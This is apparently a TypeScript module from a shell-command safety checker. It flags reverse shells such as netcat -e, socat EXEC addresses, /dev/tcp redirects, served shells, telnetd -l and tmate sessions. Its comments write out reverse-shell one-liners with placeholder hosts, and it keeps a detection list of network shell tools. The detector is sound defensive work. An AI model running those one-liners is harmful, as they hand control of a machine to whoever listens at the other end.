/**
 * A program wired to a network connection (`nc -e /bin/sh host 4444`, `socat exec:bash tcp:h:p`,
 * `bash < /dev/tcp/h/p`): whoever is at the other end runs code, so it is a finding however
 * harmless the program looks. socat's EXEC/SYSTEM addresses are also parsed as code.
 */

import type { Facts, Word } from "../../facts/types.js";
import { baseName, type CommandView } from "../command.js";
import type { Env, Unwrapper } from "./types.js";
import { runString } from "./strings.js";
import { readsProgramFromStdin } from "./pipes.js";
import { SHELL_STARTERS, startsShell } from "./shell-starters.js";
import { INTERPRETERS } from "./wrappers.js";

/** /dev/tcp and /dev/udp: bash opens a socket for a redirect to these. */
export const NET_DEVICE = /^\/dev\/(?:tcp|udp)\//;

export function reverseShell(env: Env, w: Word, what: string): void {
  const r = env.at(w);
  env.out.findings.push({ id: "shell/reverse-shell", message: `${what} connects a program to the network: whoever is at the other end runs commands here.`, start: r[0], end: r[1] });
}

/** Arguments appended from stdin (`xargs nc`, `parallel socat`): the words that run a program could be among them. */
function fromStdin(view: CommandView): boolean {
  return view.argsUnknown && (view.wrappers.includes("xargs") || view.wrappers.includes("parallel"));
}

function stdinMayRun(view: CommandView, env: Env, what: string): void {
  const r = env.at(view.words[0] as Word);
  env.out.findings.push({ id: "shell/reverse-shell", message: `${view.name} gets arguments from stdin (xargs), unseen: ${what} among them connects a program to the network, and whoever is at the other end runs commands here.`, start: r[0], end: r[1] });
}

/** netcat's options that run a program on the connection (`-e prog`, `-c 'cmd'`, ncat's `--sh-exec`). */
const NC_EXEC = /^-[A-Za-z0-9]*[ec][^]*$|^--(?:exec|sh-exec|lua-exec)(?:=|$)/;

export const netcatUnwrapper: Unwrapper = {
  name: "netcat-exec",
  commands: ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"],
  unwrap: (v, e) => {
    if (fromStdin(v)) return stdinMayRun(v, e, "-e PROGRAM");
    for (let k = 1; k < v.args.length; k++) {
      const a = v.args[k] as string;
      // Options only: an operand (host, port) cannot run anything.
      if (a.startsWith("-") && a !== "-" && NC_EXEC.test(a)) return reverseShell(e, v.words[k] as Word, `${v.name} ${a}`);
    }
  },
};

/** socat addresses that run a program (EXEC) or a shell command (SYSTEM); the rest are channels. */
const SOCAT_RUN = /^(exec|system):([^]*)$/i;
const SOCAT_NET = /^(?:tcp|udp|sctp|dccp|openssl|ssl|socks|proxy|vsock|ip|tun|udp-sendto|tcp-l|tcp-listen|tcp4|tcp6|udp4|udp6|udp-l|udp-listen|openssl-listen|tcp4-listen|tcp6-listen)[\w-]*:/i;

export const socatUnwrapper: Unwrapper = { name: "socat-exec", commands: ["socat"], unwrap: (v, e) => socatAddresses(v, e) };

function socatAddresses(view: CommandView, env: Env): void {
  if (fromStdin(view)) return stdinMayRun(view, env, "EXEC:PROGRAM");
  const addrs: number[] = [];
  for (let k = 1; k < view.args.length; k++) if (!(view.args[k] as string).startsWith("-") || view.args[k] === "-") addrs.push(k);
  const net = addrs.some((k) => SOCAT_NET.test(view.args[k] as string));
  for (const k of addrs) {
    const m = SOCAT_RUN.exec(view.args[k] as string);
    if (m === null) continue;
    const w = view.words[k] as Word;
    if (net) reverseShell(env, w, `socat ${m[1]}:`);
    // EXEC:prog args,opt=… / SYSTEM:cmd,opt=…: the code ends at the first option comma.
    const code = (m[2] as string).replace(/,[a-z-]+(?:=[^,]*)?(?:,[a-z-]+(?:=[^,]*)?)*$/i, "");
    runString(view, { ...w, value: code }, env.at(w), env.nest, env.out, `an ${m[1]}: address`);
  }
}

/**
 * A shell or interpreter reading its program from stdin, run by a server with the connection as
 * stdin (`tcpserver 0 4444 sh -i`, `ttyd bash`, `websocketd --port 80 python3`): a shell served
 * to whoever connects. A program with a script or command of its own is judged as that command.
 */
/** Programs that give whoever drives them a shell session: a login, a multiplexer (whatever its words: `tmux new -A -s main`). */
const SESSIONS: ReadonlySet<string> = new Set(["login", "tmux", "screen", "byobu", "zellij"]);

export const servedShellUnwrapper: Unwrapper = {
  name: "served-shell",
  commands: [...INTERPRETERS, ...SHELL_STARTERS, ...SESSIONS],
  also: (v, e) => {
    const server = v.wrapperEffects?.find((x) => x.kind === "serves");
    if (server === undefined || !(readsProgramFromStdin(v) || startsShell(v) || SESSIONS.has(v.name))) return;
    reverseShell(e, v.words[0] as Word, `${server.wrapper} serving ${v.name}`);
  },
};

/** `/dev/tcp/…` spelled anywhere on the line: a run-time redirect target may hold it (`d=/dev/tcp/h/p; bash >& $d`). */
const NET_ANYWHERE = /\/dev\/(?:tcp|udp)\//;
/** Programs that carry a stream over the network. */
const NET_TOOLS: ReadonlySet<string> = new Set(["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "openssl", "cryptcat", "sbd", "pwncat", "pwncat-cs"]);

/**
 * A shell reading its program from stdin wired to the network by its redirects (`bash -i >&
 * /dev/tcp/$h/4444 0>&1`, `sh < /dev/udp/h/53`, a target only known at run time on a line that
 * names /dev/tcp), or piped into a network tool (`sh -i < /tmp/f 2>&1 | nc h 4444 > /tmp/f`); and
 * `exec` wiring this shell's own input or output to a socket (`exec </dev/tcp/h/p`).
 */
export const netRedirectUnwrapper: Unwrapper = {
  name: "net-redirect",
  commands: [...INTERPRETERS, "exec"],
  also: (v, e) => {
    const net = netOf(v.facts);
    if (v.name === "exec") {
      if (v.args.length > 1 || !net.named) return;
      const r = v.redirects.find((x) => (x.fd === null || x.fd <= 2) && x.target !== null && netTarget(x.target));
      if (r !== undefined) reverseShell(e, r.target as Word, `exec ${r.op} ${(r.target as Word).value} (this shell's own ${r.op.includes("<") ? "input" : "output"})`);
      return;
    }
    if (!readsProgramFromStdin(v)) return;
    const r = net.named ? v.redirects.find((x) => x.target !== null && netTarget(x.target)) : undefined;
    if (r !== undefined) return reverseShell(e, r.target as Word, `${v.name} with ${r.op} ${(r.target as Word).value}`);
    const tool = net.tools.get(v.sc.pipeline);
    if (tool !== undefined && tool.stage > v.sc.stage) reverseShell(e, v.words[0] as Word, `${v.name} piped into ${tool.name} (its session sent to the network)`);
  },
};

/** Per parse, once: whether it names /dev/tcp, and the last network tool of each pipeline. */
interface NetOfParse { named: boolean; tools: Map<number, { stage: number; name: string }> }
const NET_OF = new WeakMap<Facts, NetOfParse>();
function netOf(facts: Facts): NetOfParse {
  let n = NET_OF.get(facts);
  if (n === undefined) {
    n = { named: NET_ANYWHERE.test(facts.source), tools: new Map() };
    for (const c of facts.commands) {
      const name = c.argv[0]?.value ?? "";
      if (NET_TOOLS.has(baseName(name)) && (n.tools.get(c.pipeline)?.stage ?? -1) < c.stage) n.tools.set(c.pipeline, { stage: c.stage, name });
    }
    NET_OF.set(facts, n);
  }
  return n;
}

/** A redirect target that is a socket, or may be one on a line naming /dev/tcp: one starting with a run-time part (`$d`, `$(…)`). */
function netTarget(w: Word): boolean {
  return NET_DEVICE.test(w.value) || (w.dynamic !== null && (w.dynamic[0]?.[0] ?? 1) === 0);
}

/** `telnetd -l /bin/sh` (busybox's too): a shell served to whoever connects. */
export const telnetdUnwrapper: Unwrapper = {
  name: "telnetd-shell",
  commands: ["telnetd", "utelnetd", "in.telnetd"],
  unwrap: (v, e) => {
    for (let k = 1; k < v.args.length; k++) {
      const a = v.args[k] as string;
      const login = a === "-l" ? v.args[k + 1] : a.startsWith("-l") ? a.slice(2) : undefined;
      if (login !== undefined && (INTERPRETERS.has(baseName(login)) || baseName(login) === "login" || login.includes("$"))) return reverseShell(e, v.words[k] as Word, `${v.name} -l ${login}`);
    }
  },
};

/** Terminal sharing (`tmate`, `upterm host`): this shell's session handed to whoever has the link. */
export const sharedTerminalUnwrapper: Unwrapper = {
  name: "shared-terminal",
  commands: ["tmate", "upterm"],
  unwrap: (v, e) => {
    if (v.args.some((a) => /^(?:-V|--version|-h|--help)$/.test(a))) return;
    const sub = v.args.slice(1).find((a) => !a.startsWith("-"));
    if (v.name === "upterm" && sub !== "host") return;
    // tmate's own commands to a running session (`tmate -S sock wait tmate-ready`, `display -p`) share nothing new.
    if (v.name === "tmate" && sub !== undefined && !/^(?:new|new-session)$/.test(sub) && v.args.includes("-S")) return;
    const r = e.at(v.words[0] as Word);
    e.out.findings.push({ id: "shell/reverse-shell", message: `${v.name} shares this terminal's shell over the network: whoever has its link runs commands here. Start it yourself, outside the agent, when you mean to pair.`, start: r[0], end: r[1] });
  },
};
